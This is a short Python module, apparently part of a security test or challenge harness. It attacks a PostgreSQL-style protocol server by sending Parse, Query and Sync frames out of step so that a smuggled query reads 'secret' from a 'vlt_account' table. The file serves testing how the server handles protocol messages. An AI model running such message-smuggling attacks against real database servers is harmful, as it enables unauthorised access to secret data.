"""Sends a Query while the server skips messages up to a Sync, and one behind that."""

from attacks.frames import SYNC, ask, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        return ask(
            client,
            parse(b"SELECT nothing FROM nowhere"),
            query(b"SET search_path = office"),
            SYNC,
            query(b"SELECT secret FROM vlt_account"),
            rounds=2,
        )
